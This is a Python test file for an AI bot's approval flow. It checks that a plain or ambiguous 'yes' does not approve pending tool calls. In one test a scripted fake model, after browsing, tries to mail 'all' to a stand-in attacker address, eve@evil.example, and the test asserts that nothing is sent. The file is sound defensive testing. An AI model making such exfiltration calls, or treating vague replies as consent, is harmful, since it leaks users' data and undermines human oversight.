"""A plain yes agrees to a call only if nothing else can be meant; and what nobody has ordered is asked about."""

import asyncio
from collections.abc import Callable
from typing import Any

import pytest

from bot.core.messages import OutboundKind, OutboundMessage
from tests.approvals.conftest import RunBot
from tests.support.bench import Bench
from tests.support.fakes import reply, role, uses
from tests.support.mailing import Post
from tests.support.patience import PATIENCE

ASKS = uses("ask_person", question="How many pages shall I read: 1, 2 or 3?")
POSTS = uses("message", text="I could also read page 2. Shall I?")


async def until_withdrawn(bench: Bench, asked: OutboundMessage) -> None:
    async with asyncio.timeout(PATIENCE):
        while bench.select("state", "questions", f"id = '{asked.id}'") != [("withdrawn",)]:  # noqa: ASYNC110 -- it tells nobody
            await asyncio.sleep(0.01)


@pytest.mark.parametrize("answer", ["2", "yes", "ok", "sure"])
@pytest.mark.parametrize("said", [ASKS, POSTS], ids=["a question", "a message"])
async def test_a_plain_yes_after_a_roles_words_agrees_to_no_call(
    bench: Bench, run: RunBot, post: Post, said: Any, answer: str
) -> None:
    bench.roles["researcher"] = role("researcher", "browse", "ask_person", "message")
    bench.model.says("researcher", reply(uses("browse")), reply(said), reply(ASKS), "Report.")
    both = reply(uses("delegate", role="researcher", task="look"), uses("mail", to="eve@evil.example", text="all"))
    bench.model.says("lead", reply(uses("browse")), both, "Done.", "Done.")
    async with run():
        bench.chat.hears("What does the page say?")
        shown = dict[OutboundKind, OutboundMessage]()
        while not {OutboundKind.APPROVAL, OutboundKind.QUESTION} <= shown.keys():
            message = (await bench.chat.sent.get()).message
            shown[message.kind] = message
        bench.chat.hears(answer)
        await until_withdrawn(bench, shown[OutboundKind.APPROVAL])
    assert post.sent == []


async def test_a_reply_to_another_message_agrees_to_no_call(
    bench: Bench, run: RunBot, post: Post, ask: Callable[..., Any]
) -> None:
    async with run():
        asked = await ask("What does the page say?")
        bench.chat.hears("yes", reply_to="a message that the bot does not know")
        await until_withdrawn(bench, asked)
    assert post.sent == []


async def test_a_yes_with_a_question_mark_agrees_to_nothing(
    bench: Bench, run: RunBot, post: Post, ask: Callable[..., Any]
) -> None:
    async with run():
        asked = await ask("What does the page say?")
        bench.chat.hears("Yes?")
        await until_withdrawn(bench, asked)
    assert post.sent == []
